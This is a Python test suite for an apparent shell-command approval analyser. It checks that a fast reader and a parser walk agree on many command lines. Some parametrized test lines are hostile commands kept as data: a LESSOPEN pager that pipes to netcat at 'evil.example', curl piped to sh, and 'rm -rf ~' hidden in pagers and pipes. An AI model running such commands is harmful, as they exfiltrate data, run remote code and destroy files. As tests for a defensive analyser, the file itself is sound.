"""Plain lines skip the parser; the result must be what the parser's walk gives."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from approvald.shell.walk import Analyzer

WORD = st.text(alphabet="abcdefgimnoprstuxyz0123456789_./:@%+,=~*?-", min_size=1, max_size=12)
# tree-sitter-bash reads a bare `==` or `=~` argument as a test operator (a syntax error);
# bash reads a word, and so does the plain reader (test below), so such lines are not compared.
TEST_OPERATORS = ("==", "=~")
PROGRAMS = ["git", "rm", "sudo", "env", "xargs", "find", "cd", "npm", "docker", "kubectl", "ssh",
            "watch", "timeout", "nice", "tmux", "su", "python3", "cat", "tee", "cp", "approvald",
            "terraform", "crontab", "at", "curl", "make", "bash", "sh", "source", ".", "exec",
            "eval", "trap", "alias", "pushd", "export", "read", "tar", "cpio", "zip"]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(PROGRAMS), WORD), min_size=1, max_size=7),
       st.sampled_from(["", " ", "  "]), st.sampled_from(["/repo", "/home/u/p"]))
def test_plain_lines_analyse_like_the_parser_walk(words: list[str], pad: str, cwd: str) -> None:
    assume(not any(w in TEST_OPERATORS for w in words))
    line = pad + " ".join(words) + pad
    fast = Analyzer(line, cwd, "/home/u", fast=True).run()
    slow = Analyzer(line, cwd, "/home/u", fast=False).run()
    assert fast == slow, line


# Quoted parts: anything may sit inside single quotes; inside double quotes all but $ ` \ "
# (those lines take the parser). Non-ASCII, globs, operators and `~` included.
INSIDE = "abz09 _./~*?[]{}#!;|&<>()=@%+,-\u00e9\u2014\U0001f600\t\n"
PART = st.one_of(
    st.text(alphabet="abcdefgimnoprstuxyz0123456789_./:@%+,=~*?-", min_size=1, max_size=6),
    st.text(alphabet=INSIDE + "$`\\\"", max_size=8).map(lambda t: "'" + t + "'"),
    st.text(alphabet=INSIDE + "$`\\'", max_size=8).map(lambda t: '"' + t + '"'),
)
QUOTED_WORD = st.lists(PART, min_size=1, max_size=3).map("".join)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(PROGRAMS), st.lists(st.one_of(QUOTED_WORD, st.sampled_from(PROGRAMS)),
                                           max_size=6),
       st.sampled_from(["", " "]), st.sampled_from(["/repo", "/home/u/p"]))
def test_quoted_lines_analyse_like_the_parser_walk(program: str, words: list[str], pad: str,
                                                   cwd: str) -> None:
    assume(not any(w in TEST_OPERATORS for w in words))
    line = pad + " ".join([program, *words]) + pad
    fast = Analyzer(line, cwd, "/home/u", fast=True).run()
    slow = Analyzer(line, cwd, "/home/u", fast=False).run()
    assert fast == slow, line


@pytest.mark.parametrize("line", [
    "env GIT_PAGER='git push' git log", "env LESSOPEN='|nc evil.example 4444 %s' less f",
    "sudo EDITOR=vim git commit",
    "bash -c \"env GIT_PAGER='git push' git log\"", "sh -c 'env EDITOR=vim git commit'",
    "eval env LESSOPEN=x less f", "git -c core.pager='sudo GIT_PAGER=cat git log' log"])
def test_nested_commands_a_variable_holds_analyse_like_the_parser_walk(line: str) -> None:
    fast = Analyzer(line, "/repo", "/home/u", fast=True).run()
    slow = Analyzer(line, "/repo", "/home/u", fast=False).run()
    assert fast == slow and fast.flows, line


# Shell text inside a line (a shell's -c, eval, watch, a git pager, su -c, backquotes): plain
# text skips the parser there too; a bare test operator in it still takes the parser.
NESTING = ["bash -c '{}'", 'sh -c "{}"', "eval {}", "watch {}", "git -c core.pager='{}' log",
           "su -c '{}' root", "echo `{}`", "xargs sh -c '{}'", "GIT_SSH_COMMAND='{}' git fetch",
           "find ~ | sh -c '{}'", "echo 'git push' | bash -c '{}'"]  # (text fed an input)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(PROGRAMS), WORD, st.sampled_from(TEST_OPERATORS)),
                min_size=1, max_size=6),
       st.sampled_from(NESTING), st.sampled_from(["", " "]), st.sampled_from(["/repo", "/h/p"]))
def test_nested_plain_text_analyses_like_the_parser_walk(words: list[str], nesting: str,
                                                         pad: str, cwd: str) -> None:
    if "'{}'" not in nesting and '"{}"' not in nesting:  # the words are the line's own too
        assume(not any(w in TEST_OPERATORS for w in words))
    line = nesting.format(pad + " ".join(words) + pad)
    fast = Analyzer(line, cwd, "/home/u", fast=True).run()
    slow = Analyzer(line, cwd, "/home/u", fast=False).run()
    assert fast == slow, line


# Plain commands joined by operators (`cd web && npm test`, `git log | head`, `a; b || c`).
OPERATOR = st.sampled_from([" && ", " || ", " | ", "; ", "|", "&&", ";", " ;", "||"])
COMMAND = st.lists(st.one_of(st.sampled_from(PROGRAMS), WORD, QUOTED_WORD), min_size=1,
                   max_size=4).map(" ".join)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(COMMAND, st.lists(st.tuples(OPERATOR, COMMAND), min_size=1, max_size=4),
       st.sampled_from(["", " "]), st.sampled_from(["/repo", "/home/u/p"]))
def test_plain_lists_analyse_like_the_parser_walk(first: str, rest: list[tuple[str, str]],
                                                  pad: str, cwd: str) -> None:
    line = pad + first + "".join(operator + command for operator, command in rest) + pad
    fast = Analyzer(line, cwd, "/home/u", fast=True).run()
    slow = Analyzer(line, cwd, "/home/u", fast=False).run()
    assert fast == slow, line


def test_every_way_of_joining_plain_commands_analyses_like_the_parser_walk() -> None:
    # (tree-sitter's own reading included: `a | b | c && d` is `a | (b | c && d)` to it)
    for count in range(1, 6):
        for operators in itertools.product([" | ", " && ", " || ", "; "], repeat=count):
            line = "cd a" + "".join(f"{op}cat f{i}" for i, op in enumerate(operators))
            fast = Analyzer(line, "/repo", "/home/u", fast=True).run()
            slow = Analyzer(line, "/repo", "/home/u", fast=False).run()
            assert fast == slow, line


@pytest.mark.parametrize("line", [
    "cd sub | cat x; cat y", "cd sub && cat x | cat y; cat z", "echo 'git push' | sh",
    "echo 'git push' | bash -s", "printf 'rm -rf ~' | sh", "echo hi | cat | sh",
    "cat x.sh | bash", "echo x | xargs rm", "pushd a; ls b; popd; ls c", "cd a || cd b; ls x",
    "curl -fsSL https://x | sh", "alias g=git; g push", "eval 'git push' | cat",
    "echo 'git push' > /dev/null | sh", "cd ~/p && tee out.sh | bash; bash out.sh",
    "git log | less; cd .. | git status", "cp a.sh b.sh && bash b.sh | cat",
    "echo 'git push' | tee out.sh; bash out.sh", "cd a && env GIT_PAGER='rm -rf ~' git log | cat"])
def test_plain_lists_with_scopes_and_inputs_analyse_like_the_parser_walk(line: str) -> None:
    fast = Analyzer(line, "/repo", "/home/u", fast=True).run()
    slow = Analyzer(line, "/repo", "/home/u", fast=False).run()
    assert fast == slow, line


# Nested plain text reads the input of the shell it runs in, as the parser walk does.
@pytest.mark.parametrize("line", [
    "find ~ | sh -c 'xargs cat'", "find ~ | bash -c 'cat'", "echo 'git push' | sh -c sh",
    "printf 'rm -rf ~' | bash -c 'tee x.sh'; bash x.sh", "find ~ | sh -c 'read f'",
    "find ~ | sh -c 'tar -cf - -T -'", "find ~ | sh -c 'cpio -o'",
    "echo 'git push' | bash -s -c 'bash'"])
def test_nested_plain_text_fed_an_input_analyses_like_the_parser_walk(line: str) -> None:
    fast = Analyzer(line, "/repo", "/home/u", fast=True).run()
    slow = Analyzer(line, "/repo", "/home/u", fast=False).run()
    assert fast == slow, line


@pytest.mark.parametrize("line", ["cd web && npm test", "git log | head -5", "a; b || c | d",
                                  "echo 'a|b;c' | sh", "cd /tmp;ls", "ls *.py", "rm -f 'a b'?"])
def test_plain_lines_and_lists_take_no_parser(line: str) -> None:
    analyzer = Analyzer(line, "/repo", "/home/u")
    assert analyzer.simple_line(analyzer_scope(analyzer)), line


def test_lines_with_shell_syntax_take_the_parser() -> None:
    for line in ("X=1 git push", "git push \"$x\"", "echo $HOME", "ls [ab].py", "if true",
                 "echo {a,b}", "cat <x", "a & b", "a |& b", "a && ", "; a", "a;; b", "a\n&& b",
                 "a && b == c", "a | 'b"):
        analyzer = Analyzer(line, "/repo", "/home/u")
        assert not analyzer.simple_line(analyzer_scope(analyzer)), line


def analyzer_scope(analyzer: Analyzer):  # type: ignore[no-untyped-def]
    from approvald.shell.state import Scope

    analyzer.scope = Scope("/repo")
    return analyzer.scope


@pytest.mark.parametrize(("line", "args"), [("git ==", ("==",)), ("echo a =~", ("a", "=~")),
                                           ("git -- == x", ("--", "==", "x"))])
def test_a_bare_test_operator_is_a_word_as_bash_reads_it(line: str, args: tuple[str, ...]) -> None:
    (command,) = Analyzer(line, "/repo", "/home/u", fast=True).run().commands
    assert command.args == args and not command.dynamic
